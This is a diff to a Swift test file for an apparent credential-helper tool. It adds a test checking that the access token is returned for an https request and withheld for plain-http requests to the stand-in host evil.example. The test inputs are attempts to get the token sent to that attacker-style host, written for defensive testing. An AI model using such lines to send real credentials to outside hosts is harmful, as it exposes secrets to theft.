@@ -92,4 +92,25 @@ import Testing
       #expect(try allowed.code == 0 && allowed.output == SocketWire(sandbox.socket).accessToken(), "\(allowed.errors)")
     }
   }
+
+  @Test func `no token goes to another machine in the clear, also where the profile is named`() async throws {
+    try await Sandbox.run { sandbox in
+      _ = try sandbox.owner()
+      let client = try SocketWire(sandbox.socket)
+      try client.register()
+      let token = try client.accessToken()
+      let ask = { (scheme: String) throws -> Sandbox.Outcome in
+        let script = #"printf 'protocol=%s\nhost=evil.example\n\n' "$1" | "$0" --state "$2" helper git -p default get"#
+        return try sandbox.run("/bin/sh", ["-c", script, BuiltPrograms.command, scheme, sandbox.state])
+      }
+      #expect(try ask("https").output.contains("password=\(token)\n"))
+      #expect(try ask("http").output.isEmpty)
+      for words in [["helper", "curl"], ["header", "--url"], ["exec", "--url"]] {
+        let program = words[0] == "exec" ? ["--", "/bin/echo"] : []
+        let command = ["--state", sandbox.state] + words + ["http://evil.example", "-p", "default"] + program
+        let refused = try sandbox.run(BuiltPrograms.command, command)
+        #expect(refused.code != 0 && !refused.output.contains(token), "\(words): \(refused.errors)")
+      }
+    }
+  }
 }
